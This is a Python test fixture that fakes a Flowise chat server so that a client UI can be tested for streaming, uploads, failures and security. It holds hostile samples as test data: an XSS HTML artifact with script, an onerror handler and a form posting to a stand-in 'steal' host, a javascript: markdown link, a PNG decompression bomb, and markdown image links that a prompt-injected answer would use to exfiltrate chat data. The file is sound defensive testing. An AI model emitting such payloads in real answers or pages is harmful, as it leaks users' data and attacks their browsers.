def multipart(content_type: str, raw: bytes) -> dict[str, Any]:
    """A multipart/form-data body as ``{"fields": {name: text}, "files": [(field, file name, mime, bytes)]}``."""
    message = BytesParser(policy=HTTP).parsebytes(f"Content-Type: {content_type}\r\n\r\n".encode() + raw)
    fields, files = {}, []
    for part in message.iter_parts():
        field_name = part.get_param("name", header="content-disposition")
        content = part.get_payload(decode=True) or b""
        if part.get_filename() is not None:
            files.append((field_name, part.get_filename(), part.get_content_type(), content))
        else:
            fields[field_name] = content.decode()
    return {"fields": fields, "files": files}


def wav(seconds: float = 1.0, rate: int = 16000) -> bytes:
    """A tone recorded as Streamlit's recorder records: WAV at 16 kHz."""
    import numpy as np
    import soundfile

    samples = (np.sin(np.linspace(0, 2 * np.pi * 440 * seconds, int(rate * seconds))) * 0.2).astype("float32")
    out = io.BytesIO()
    soundfile.write(out, samples, rate, format="WAV")
    return out.getvalue()


def png(width: int = 64, height: int = 40, colour: tuple[int, int, int] = (30, 120, 200)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, format="PNG")
    return out.getvalue()


# GET /api/v1/chatflows-uploads/{id}: a flow with no upload settings answers as below; "images" is the
# recorded answer for a flow whose ChatOpenAI allows image uploads.
NO_UPLOADS = {
    "isSpeechToTextEnabled": False,
    "isImageUploadAllowed": False,
    "isRAGFileUploadAllowed": False,
    "imgUploadSizeAndTypes": [],
    "fileUploadSizeAndTypes": [],
}
IMAGE_UPLOADS = json.loads(fixture_bytes("chatflows-uploads.json"))
UPLOADS_CONFIGS = {
    "images": IMAGE_UPLOADS,
    # A vector store with "file upload" on, fed by a text loader (utils/getUploadsConfig.ts: 500 MB).
    "rag-files": {
        **IMAGE_UPLOADS,
        "isRAGFileUploadAllowed": True,
        "fileUploadSizeAndTypes": [{"fileTypes": [".txt", ".md"], "maxUploadSize": 500}],
    },
    "full-files": IMAGE_UPLOADS,
    "voice": {**NO_UPLOADS, "isSpeechToTextEnabled": True},
    "images-flowise-1.5": IMAGE_UPLOADS,
}
# Flows whose chat settings do not carry the uploads config, as Flowise before 1.6 answered them.
CONFIG_WITHOUT_UPLOADS = {"images-flowise-1.5"}
# What the voice flow's speech-to-text "hears" in any recording.
TRANSCRIPTION = "Какая столица Франции? What is the capital of France?"


def _store_uploads(h: _Handler, flow_id: str, chat_id: str, uploads: list[Any]) -> list[dict[str, Any]] | None:
    """Keeps each upload as Flowise's buildChatflow does and returns what its history stores, or None
    (and an error answer) for an upload Flowise would fail on."""
    stored = []
    for upload in uploads:
        if not isinstance(upload, dict):
            h._flowise_error(500, "Error: predictionsServices.buildChatflow - upload is not an object")
            return None
        kind, data, name = upload.get("type"), upload.get("data"), str(upload.get("name") or "")
        if kind in ("file", "file:rag", "audio") and data:
            head, _, payload = str(data).partition(",")
            if not head.startswith("data:") or not head.endswith(";base64"):
                h._flowise_error(500, "Error: predictionsServices.buildChatflow - Cannot read properties of undefined")
                return None
            mime = head[5:].split(";")[0]
            h.wire.stored[(flow_id, chat_id, name)] = (mime, base64.b64decode(payload))
            stored.append({"type": "stored-file", "name": name, "mime": upload.get("mime")})
        elif kind == "file:full" and data:
            stored.append({"type": "stored-file:full", "name": name, "mime": upload.get("mime")})
        else:
            stored.append({key: value for key, value in upload.items()})
    return stored


def _message(flow_id: str, chat_id: str, role: str, content: str, **fields: Any) -> dict[str, Any]:
    base = {
        "id": f"{role}-{time.monotonic_ns()}",
        "role": role,
        "chatflowid": flow_id,
        "executionId": None,
        "content": content,
        "sourceDocuments": None,
        "usedTools": None,
        "fileAnnotations": None,
        "agentReasoning": None,
        "reasonContent": None,
        "fileUploads": None,
        "artifacts": None,
        "action": None,
        "chatType": "EXTERNAL",
        "chatId": chat_id,
        "memoryType": None,
        "sessionId": chat_id,
        "createdDate": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime()),
        "leadEmail": None,
        "followUpPrompts": None,
        "execution": None,
    }
    return {**base, **fields}


def _answer(
    h: _Handler,
    flow_id: str,
    body: dict,
    streaming: bool,
    text: str,
    question: str,
    uploads: list[dict[str, Any]] | None,
    chunk_size: int = 7,
    **extra: Any,
) -> None:
    """Streams (or returns as JSON) ``text`` and ``extra`` events, and keeps the exchange as history."""
    chat_id = str(body.get("chatId", ""))
    history = h.wire.history.setdefault((flow_id, chat_id), [])
    history.append(_message(flow_id, chat_id, "userMessage", question, fileUploads=uploads or None))
    answer = _message(flow_id, chat_id, "apiMessage", text, **{k: v for k, v in extra.items()})
    history.append(answer)
    meta = {"chatId": chat_id, "chatMessageId": answer["id"], "question": question, "sessionId": chat_id}
    if not streaming:
        h._json(200, {"text": text, **extra, **meta})
        return
    events = frame("start", "") + b"".join(frame("token", word) for word in re.findall(r"\S+\s*", text))
    events += b"".join(frame(name, value) for name, value in extra.items())
    h._stream(events + frame("metadata", meta) + end_frame(), chunk_size)


# A reasoning model behind an agentflow's LLM node: its thoughts stream first, as `thinking` events.
THOUGHTS = ["The user asks about **France**. ", "Its capital is Paris; ", "answer briefly."]
THINKING_SECONDS = 3
REASONED_ANSWER = "The capital of France is Paris."


def _reasoning(h: _Handler, body: dict, streaming: bool) -> None:
    flow_id, chat_id = "reasoning", str(body.get("chatId", ""))
    question = str(body.get("question") or "")
    history = h.wire.history.setdefault((flow_id, chat_id), [])
    history.append(_message(flow_id, chat_id, "userMessage", question))
    reason = {"thinking": "".join(THOUGHTS), "thinkingDuration": THINKING_SECONDS}
    answer = _message(flow_id, chat_id, "apiMessage", REASONED_ANSWER, reasonContent=json.dumps(reason))
    history.append(answer)
    meta = {"chatId": chat_id, "chatMessageId": answer["id"], "question": question, "sessionId": chat_id}
    if not streaming:
        h._json(200, {"text": REASONED_ANSWER, **meta})
        return
    h._stream_frames(
        frame("start", "")
        + b"".join(thinking_frame(part) for part in THOUGHTS)
        + thinking_frame("", THINKING_SECONDS)
        + b"".join(frame("token", word) for word in re.findall(r"\S+\s*", REASONED_ANSWER))
        + frame("metadata", meta)
        + end_frame()
    )


def _uploads_echo(h: _Handler, body: dict, streaming: bool) -> None:
    """Says what came with the question, as a flow that sees uploads would; speech becomes the question."""
    flow_id, chat_id = h.path.rsplit("/", 1)[1], str(body.get("chatId", ""))
    uploads = body.get("uploads") or []
    stored = _store_uploads(h, flow_id, chat_id, uploads)
    if stored is None:
        return
    question = str(body.get("question") or "")
    if flow_id == "voice" and any(isinstance(u, dict) and u.get("mime") == "audio/ogg" for u in uploads):
        question = TRANSCRIPTION
    seen = ", ".join(f"{u.get('name')} ({u.get('type')}, {u.get('mime')})" for u in uploads if isinstance(u, dict))
    _answer(
        h, flow_id, body, streaming, f"Question: {question or '(none)'}. Uploads: {seen or 'none'}.", question, stored
    )


def _attachments(h: _Handler, flow_id: str, chat_id: str, body: Any) -> None:
    """POST /api/v1/attachments/{flow}/{chat}: the text of each file, for a flow with Full File Upload."""
    config = CHATBOT_CONFIGS.get(flow_id, {}).get("fullFileUpload")
    prefix = "Error: attachmentService.createAttachment - "
    if not config or not config.get("status"):
        h._flowise_error(500, prefix + "File upload is not enabled for this chatflow")
        return
    allowed = config["allowedUploadFileTypes"].split(",")
    extracted = []
    for _field, name, mime, content in body["files"] if isinstance(body, dict) else []:
        if mime not in allowed:
            h._flowise_error(500, prefix + f"File type '{mime}' is not allowed. Allowed types: {', '.join(allowed)}")
            return
        h.wire.stored[(flow_id, chat_id, name)] = (mime, content)
        extracted.append({"name": name, "mimeType": mime, "size": len(content), "content": content.decode()})
    h._json(200, extracted)


def _vector_upsert(h: _Handler, body: Any) -> None:
    """POST /api/v1/vector/upsert/{flow}: not among Flowise's public endpoints, so it needs the key."""
    if h.headers.get("Authorization") != f"Bearer {API_KEY}":
        h._json(401, {"error": "Unauthorized Access"})
        return
    files = body["files"] if isinstance(body, dict) else []
    h._json(
        200,
        {
            "numAdded": len(files),
            "numDeleted": 0,
            "numUpdated": 0,
            "numSkipped": 0,
            "addedDocs": [{"pageContent": f[3].decode(errors="replace"), "metadata": {"source": f[1]}} for f in files],
        },
    )


CHART_PNG = png(320, 200, (220, 90, 40))
# An HTML artifact that would run script in, or reach out of, the page if it were rendered as is.
HOSTILE_HTML = (
    "<h2>Quarterly report</h2><p id='note'>Rendered from the flow.</p>"
    "<script>window.parent.__pwned = 'artifact-script'; window.top.__pwned = 'artifact-top';"
    "document.getElementById('note').textContent = 'SCRIPT RAN'; alert('artifact')</script>"
    "<img src=x onerror=\"window.top.__pwned='artifact-img'\">"
    "<form action='https://example.invalid/steal'><input name=q><button>Send</button></form>"
)
ARTIFACT_MARKDOWN = "### Summary\n\n**Revenue** grew. [Safe](https://example.org) [Bad](javascript:alert('md'))"
REPORT_CSV = b"quarter,revenue\nQ1,10\nQ2,12\n"


def _artifacts(h: _Handler, body: dict, streaming: bool) -> None:
    """An answer with the artifacts a code interpreter or image tool sends, and a file to download."""
    flow_id, chat_id = h.path.rsplit("/", 1)[1], str(body.get("chatId", ""))
    h.wire.stored[(flow_id, chat_id, "chart.png")] = ("image/png", CHART_PNG)
    h.wire.stored[(flow_id, chat_id, "report.csv")] = ("text/csv", REPORT_CSV)
    inline = "data:image/png;base64," + base64.b64encode(png(48, 48, (40, 160, 60))).decode()
    artifacts = [
        {"type": "png", "data": "FILE-STORAGE::chart.png"},
        {"type": "png", "data": inline},
        {"type": "markdown", "data": ARTIFACT_MARKDOWN},
        {"type": "html", "data": HOSTILE_HTML},
        {"type": "png", "data": "FILE-STORAGE::missing.png"},
    ]
    annotations = [{"filePath": "FILE-STORAGE::report.csv", "fileName": "report.csv"}]
    _answer(
        h,
        flow_id,
        body,
        streaming,
        "Here is the chart you asked for.",
        str(body.get("question", "")),
        None,
        artifacts=artifacts,
        fileAnnotations=annotations,
    )


# -- Images (security): image bombs and images that would load from other hosts -------------------


@functools.cache
def bomb_png(width: int = 10_000, height: int = 10_000) -> bytes:
    """A black PNG of ``width`` × ``height``: about 300 KB for the default 100 million pixels, about
    400 MB once decoded. Compressed row by row, so that making it never holds the pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor, row = zlib.compressobj(9), b"\0" * (1 + 3 * width)  # each row: filter type 0, black pixels
    parts = [compressor.compress(row * 100) for _ in range(height // 100)]
    parts += [compressor.compress(row * (height % 100)), compressor.flush()]
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b"")


def _image_bomb(h: _Handler, body: dict, streaming: bool) -> None:
    """An answer whose artifacts are the bomb, as a file Flowise stored and as a data URL, and a
    picture within the budget but wider than the page."""
    flow_id, chat_id = h.path.rsplit("/", 1)[1], str(body.get("chatId", ""))
    h.wire.stored[(flow_id, chat_id, "bomb.png")] = ("image/png", bomb_png())
    h.wire.stored[(flow_id, chat_id, "poster.png")] = ("image/png", bomb_png(2000, 1200))
    artifacts = [
        {"type": "png", "data": "FILE-STORAGE::bomb.png"},
        {"type": "png", "data": "data:image/png;base64," + base64.b64encode(bomb_png()).decode()},
        {"type": "png", "data": "FILE-STORAGE::poster.png"},
    ]
    # In large chunks: seven bytes at a time, the data URL alone would take minutes on a slow wire.
    _answer(
        h,
        flow_id,
        body,
        streaming,
        "Here is the picture.",
        str(body.get("question", "")),
        None,
        chunk_size=65536,
        artifacts=artifacts,
    )


def remote_images_answer(base: str) -> str:
    """What a prompt-injected answer writes to have the reader's browser send ``base`` the chat: images
    inline (with and without alt text), by reference, as HTML and in LaTeX."""
    return (
        f"Here is your summary. ![]({base}/tracker.png?d=secret) ![logo]({base}/inline.png?d=secret)\n\n"
        f'A chart: ![chart][r]\n\n<img src="{base}/html.png?d=secret">\n\n'
        f"$\\includegraphics{{{base}/latex.png}}$\n\n[r]: {base}/reference.png?d=secret\n"
    )


def _remote_images(h: _Handler, body: dict, streaming: bool) -> None:
    """The question is the address the answer's images point at (what an injected prompt would choose)."""
    base = str(body.get("question", "")).strip()
    artifacts = [{"type": "png", "data": f"{base}/artifact.png?d=secret"}]
    _answer(h, "remote-images", body, streaming, remote_images_answer(base), base, None, artifacts=artifacts)


_SCENARIOS: dict[str, Callable[[_Handler, dict, bool], None]] = {
    "plain": _replay("plain.stream.sse", "plain.json"),
    "rag": _replay("rag.stream.sse", "rag.json"),
    "agent": _replay("agent.stream.sse", "agent.json"),
    "agentflow": _replay("agentflow.stream.sse", "agentflow.json"),
    "human-input": _human_input,
    "human-input-twice": _human_input_twice,
    "agents": _agents,
    "agentflow-error": _agentflow_error,
    "json-only": _replay("rag.stream.sse", "rag.json"),
    "build-error": _replay("build-error.stream.sse", "build-error.500.json"),
    "protected": _protected,
    "server-error": _server_error,
    "quotes-key": _quotes_key,
    "error-midstream": _error_midstream,
    "drop": _drop_midstream,
    "stall": _stall,
    "hang": _hang,
    "html": _html_page,
    "no-end": _no_end,
    "echo": _echo,
    "follow-ups": _follow_ups,
    "welcome": _echo,  # with a welcome message and starter prompts: CHATBOT_CONFIGS
    "slow": _slow,
    "reset-twice": _reset_twice,
    "reset-midstream": _reset_midstream,
    "truncated-chunk": _truncated_chunk,
    "bad-json-line": _bad_json_line,
    "endless": _endless,
    "giant-event": _giant_event,
    "json-flood": _json_flood,
    "fails-once": _fails_once,
    "hostile": _hostile,
    "huge": _huge,
    "reasoning": _reasoning,
    "chaos": _chaos,
    "images": _uploads_echo,
    "rag-files": _uploads_echo,
    "full-files": _uploads_echo,
    "voice": _uploads_echo,
    "images-flowise-1.5": _uploads_echo,
    "artifacts": _artifacts,
    "image-bomb": _image_bomb,
    "remote-images": _remote_images,
}


# -- conversation links and disclosure (security): flows with ids like Flowise's own, which the page
# must never show, and one that Flowise runs only with its own API key (its ChatFlow has an apikeyid).
HIDDEN_FLOW_IDS = ("5d0c9a8e-3b1f-4e27-9c6a-7f2e4b8d1a03", "c81f3b6e-92d4-4a7a-b5e0-1d6f0a4c7e29")
OWN_KEY_FLOW = "own-key"
FLOW_API_KEY_IDS = {OWN_KEY_FLOW: "0f6a2c1e-7b3d-4e58-9a21-c4d8e6f0b193"}
_SCENARIOS.update({flow_id: _echo for flow_id in (*HIDDEN_FLOW_IDS, OWN_KEY_FLOW)})
FLOW_NAMES.update({HIDDEN_FLOW_IDS[0]: "Sales assistant", HIDDEN_FLOW_IDS[1]: "Support desk"})


# -- budgets: flows stuck in a loop, each sending one kind of event until the client hangs up -------
ENDLESS_OPENING = "Here is what I found so far."


def _endless_frames(h: _Handler, opening: bytes, event: Callable[[int], bytes]) -> None:
    h._start_stream()
    try:
        h._chunk(opening)
        number = 0
        while not h.wire._stopping.is_set():
            h._chunk(event(number))
            number += 1
    except OSError:
        h.wire.client_left.set()


def _endless_thinking(h: _Handler, body: dict, streaming: bool) -> None:
    _endless_frames(h, frame("start", ""), lambda n: thinking_frame(f"Thought {n}. "))


def _endless_artifacts(h: _Handler, body: dict, streaming: bool) -> None:
    _endless_frames(
        h,
        frame("start", "") + frame("token", ENDLESS_OPENING),
        lambda n: frame("artifacts", [{"type": "markdown", "data": f"Artifact {n}"}]),
    )


def _endless_sources(h: _Handler, body: dict, streaming: bool) -> None:
    _endless_frames(
        h,
        frame("start", "") + frame("token", ENDLESS_OPENING),
        lambda n: frame("sourceDocuments", [{"pageContent": f"Source {n}", "metadata": {}}]),
    )


def _endless_agent_events(h: _Handler, body: dict, streaming: bool) -> None:
    _endless_frames(
        h, frame("start", "") + frame("token", ENDLESS_OPENING), lambda n: frame("agentFlowEvent", "INPROGRESS")
    )


_SCENARIOS.update(
    {
        "endless-thinking": _endless_thinking,
        "endless-artifacts": _endless_artifacts,
        "endless-sources": _endless_sources,
        "endless-agent-events": _endless_agent_events,
    }
)


class _QuietServer(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        # Clients hanging up mid-answer is part of what these tests do.
        pass


def start_wire(
    token_delay: float = 0.0, port: int = 0, chaos: Chaos | None = None, step_delay: float = 0.0
) -> FlowiseWire:
    wire = FlowiseWire(url="", chaos=chaos or Chaos())
    handler = type("Handler", (_Handler,), {"wire": wire, "token_delay": token_delay, "step_delay": step_delay})
    server = _QuietServer(("127.0.0.1", port), handler)
    wire._server = server
    wire.url = f"http://127.0.0.1:{server.server_address[1]}"
    threading.Thread(target=server.serve_forever, name="flowise-wire", daemon=True).start()
    return wire


if __name__ == "__main__":
    # Manual testing: python -m tests.flowise_wire  →  serves until Ctrl-C.
    wire = start_wire(token_delay=0.03, step_delay=0.5)
    print(f"Flowise wire server at {wire.url}; flows: {', '.join(_SCENARIOS)}; API key for 'protected': {API_KEY}")
    try:
        threading.Event().wait()
    except KeyboardInterrupt:
        wire.stop()
